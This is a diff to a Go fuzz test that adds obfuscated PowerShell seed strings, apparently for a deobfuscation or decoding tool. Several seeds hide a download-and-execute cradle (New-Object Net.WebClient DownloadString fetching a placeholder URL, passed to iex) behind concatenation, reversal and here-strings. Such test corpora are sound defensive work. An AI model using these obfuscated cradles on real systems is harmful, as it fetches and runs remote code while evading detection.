@@ -12,6 +12,14 @@ func FuzzDecode(f *testing.F) {
 		`[Convert]::FromBase64String('H4sIAAAAAAAA/8tIzcnJBwCGphA2BQAAAA==')`,
 		`'73z69z88z32z40z78z101z119'-split'z'`, "Get-C`ommand", `('ab').Replace('a','b')`,
 		`$x='))(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(';iex $x[-1..-99]`,
+		"iex (\"(New-Object Net.Web\"+\"Client).Download\"+\"String(`\"http://x/a`\")\")",
+		"$c = @'\n(New-Object Net.WebClient).DownloadString('http://x/a')\n'@\niex $c",
+		"$f = @\"\n{1}{0} $(Get-Date) `u{41}\n\"@ -f 'a','b'", `"$("a$(1)")" + "${x}"`,
+		`[string]::Join('', @('Do','wnl')) + [String]::Concat('a','b')`,
+		`'loadStr'.Insert(0,'Down').Insert(11,'ing').Substring(1).Remove(0,1)`,
+		`$a='Down';$b="load$a";sv c 'x';$w.($a+$b+(gv c).Value);${a}`,
+		`('D-o-w-n' -split '-') -join '' + -join 'a|b'.Split('|') + ('abc'[2..0]) -join ''`,
+		`$r='abc';-join $r[-1..-($r.Length)]`, "(\"{0}|%{{{1}}}\" -f 'a',('b'))", "<# c #> # c\n$a = 'x' # c",
 	} {
 		f.Add(s)
 	}
